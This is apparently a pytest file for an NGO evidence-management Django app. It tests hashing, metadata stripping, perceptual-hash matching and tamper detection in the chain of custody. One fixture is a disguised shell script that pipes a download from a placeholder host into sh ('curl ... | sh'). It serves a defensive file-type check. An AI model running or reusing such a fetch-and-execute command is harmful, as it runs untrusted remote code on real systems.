"""Evidence files: stored as received, typed by content, hashed, stripped copies, custody."""

import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from PIL import Image

from seri.evidence.models import CustodyEntry, CustodyEvent, EvidenceFile
from seri.evidence.services import (
    EvidenceInput,
    evidence_bundle,
    evidence_open_for,
    evidence_receive,
    similar_images,
)
from tests.evidence.conftest import jpeg_with_gps, picture


def receive(ngo, user, compound, data: bytes, name: str = "photo.jpg", **extra) -> EvidenceFile:
    upload = SimpleUploadedFile(name, data, content_type=extra.pop("content_type", "image/jpeg"))
    return evidence_receive(
        actor=user,
        data=EvidenceInput(
            organisation=ngo, file=upload, original_name=name, compound=compound, **extra
        ),
    )


def stored_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def verify() -> str:
    out = io.StringIO()
    call_command("verify", stdout=out)
    return out.getvalue()


def test_original_is_stored_as_received_with_hash_and_custody(ngo, bob, compound):
    data = jpeg_with_gps()
    evidence = receive(ngo, bob, compound, data, claimed_metadata="Taken 3 March near gate 2")
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    assert evidence.size == len(data)
    assert evidence.media_type == "image/jpeg"
    assert evidence.uploaded_by == bob
    assert evidence.received_at is not None
    assert evidence.claimed_metadata == "Taken 3 March near gate 2"
    with evidence.file.open("rb") as handle:
        assert handle.read() == data
    events = list(CustodyEntry.objects.filter(evidence=evidence).values_list("event", flat=True))
    assert events == [CustodyEvent.UPLOAD, CustodyEvent.DERIVE]


def test_shareable_copy_has_no_gps_or_device_and_original_unchanged(ngo, bob, compound):
    data = jpeg_with_gps()
    evidence = receive(ngo, bob, compound, data)
    with evidence.shareable.open("rb") as handle:
        copy = handle.read()
    with Image.open(io.BytesIO(copy)) as image:
        exif = image.getexif()
        assert not exif.get_ifd(0x8825)  # no GPS
        assert 0x010F not in exif and 0x0110 not in exif  # no make, no model
    assert b"DemoCam" not in copy and b"SERIAL-DEMO" not in copy
    assert evidence.shareable_sha256 == hashlib.sha256(copy).hexdigest()
    # The original still has everything, byte for byte.
    with evidence.file.open("rb") as handle:
        original = handle.read()
    assert (
        hashlib.sha256(original).hexdigest() == evidence.sha256 == hashlib.sha256(data).hexdigest()
    )
    with Image.open(io.BytesIO(original)) as image:
        assert image.getexif().get_ifd(0x8825)[1] == "N"


def test_same_picture_re_encoded_is_found_by_perceptual_hash(ngo, bob, compound):
    first = receive(ngo, bob, compound, jpeg_with_gps())
    # The same picture, sent again as a smaller, lower-quality PNG screenshot.
    out = io.BytesIO()
    picture().resize((120, 90)).save(out, "PNG")
    again = receive(ngo, bob, compound, out.getvalue(), name="screenshot.png")
    # And a different picture.
    out = io.BytesIO()
    picture().transpose(Image.Transpose.FLIP_LEFT_RIGHT).rotate(90, expand=True).save(out, "PNG")
    other = receive(ngo, bob, compound, out.getvalue(), name="other.png")
    assert again.sha256 != first.sha256
    found = [e for e, _d in similar_images(first)]
    assert again in found
    assert other not in found


def test_a_script_named_jpg_is_labelled_by_its_real_type(ngo, bob, compound):
    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
    evidence = receive(ngo, bob, compound, script, name="holiday.jpg", content_type="image/jpeg")
    assert evidence.media_type == "text/x-shellscript"
    assert evidence.claimed_media_type == "image/jpeg"
    assert not evidence.perceptual_hash
    assert not evidence.shareable


def test_upload_over_the_limit_is_refused_and_leaves_nothing(ngo, bob, compound, settings):
    settings.SERI_EVIDENCE_MAX_UPLOAD_MB = 1
    big = b"\xff\xd8\xff" + b"\x00" * (1024 * 1024 + 10)
    with pytest.raises(ValidationError) as error:
        receive(ngo, bob, compound, big)
    assert "too large" in str(error.value)
    assert not EvidenceFile.objects.exists()
    assert not CustodyEntry.objects.exists()
    assert stored_files(settings) == []


def test_a_failure_after_storing_removes_the_file(ngo, bob, compound, settings):
    # No target at all: refused before anything is written.
    with pytest.raises(ValidationError):
        evidence_receive(actor=bob, data=EvidenceInput(organisation=ngo, file=b"abc"))
    assert stored_files(settings) == []


def test_verify_detects_a_changed_byte_in_a_stored_file(ngo, bob, compound, settings):
    evidence = receive(ngo, bob, compound, jpeg_with_gps())
    assert "1 file re-hashed, all unchanged" in verify()
    path = Path(evidence.file.path)
    data = bytearray(path.read_bytes())
    data[200] ^= 0x01
    path.write_bytes(bytes(data))
    with pytest.raises(CommandError) as error:
        verify()
    assert str(evidence.public_id) in str(error.value)
    assert "stored file changed" in str(error.value)


def test_verify_detects_a_missing_file(ngo, bob, compound):
    evidence = receive(ngo, bob, compound, jpeg_with_gps())
    Path(evidence.file.path).unlink()
    with pytest.raises(CommandError, match="stored file is missing"):
        verify()


def _raw_sql(sql: str, params) -> None:
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute(sql, params)


def test_verify_detects_an_edited_custody_entry(ngo, bob, compound):
    evidence = receive(ngo, bob, compound, jpeg_with_gps())
    evidence_open_for(actor=bob, evidence=evidence)
    entry = CustodyEntry.objects.filter(evidence=evidence).order_by("sequence")[1]
    table = CustodyEntry._meta.db_table
    _raw_sql(f"UPDATE {table} SET note = %s WHERE id = %s", ["edited", entry.pk])  # noqa: S608
    with pytest.raises(CommandError) as error:
        verify()
    message = str(error.value)
    assert "evidence custody log" in message
    assert f"row id {entry.pk}" in message and "was edited" in message
    assert str(evidence.public_id) in message


def test_verify_detects_a_removed_custody_entry(ngo, bob, compound):
    evidence = receive(ngo, bob, compound, jpeg_with_gps())
    evidence_open_for(actor=bob, evidence=evidence)
    evidence_open_for(actor=bob, evidence=evidence, shareable=True)
    entries = list(CustodyEntry.objects.filter(evidence=evidence).order_by("sequence"))
    table = CustodyEntry._meta.db_table
    _raw_sql(f"DELETE FROM {table} WHERE id = %s", [entries[1].pk])  # noqa: S608
    with pytest.raises(CommandError) as error:
        verify()
    assert "rows deleted" in str(error.value)
    assert f"row id {entries[2].pk}" in str(error.value)


def test_bundle_has_files_manifest_custody_and_manifest_hash(ngo, bob, compound):
    first = receive(ngo, bob, compound, jpeg_with_gps())
    second = receive(ngo, bob, compound, b"%PDF-1.4\n% demo\n", name="statement.pdf")
    bundle = evidence_bundle(
        files=[first, second],
        actor=bob,
        organisation=ngo,
        about={"compound": str(compound.public_id), "name": compound.name},
    )
    archive = zipfile.ZipFile(io.BytesIO(bundle.data))
    names = set(archive.namelist())
    assert {"manifest.json", "manifest.json.sha256", "custody-log.json"} <= names
    manifest_bytes = archive.read("manifest.json")
    assert hashlib.sha256(manifest_bytes).hexdigest() == bundle.manifest_sha256
    assert archive.read("manifest.json.sha256").decode().split()[0] == bundle.manifest_sha256
    manifest = json.loads(manifest_bytes)
    for row in manifest["files"]:
        assert hashlib.sha256(archive.read(row["path"])).hexdigest() == row["sha256"]
    assert [r["media_type"] for r in manifest["files"]] == ["image/jpeg", "application/pdf"]
    custody = json.loads(archive.read("custody-log.json"))
    assert [e["event"] for e in custody if e["evidence"] == str(first.public_id)] == [
        "upload",
        "derive",
        "export",
    ]
    # Exporting is logged.
    assert CustodyEntry.objects.filter(event=CustodyEvent.EXPORT).count() == 2
    assert "chain intact" in verify()
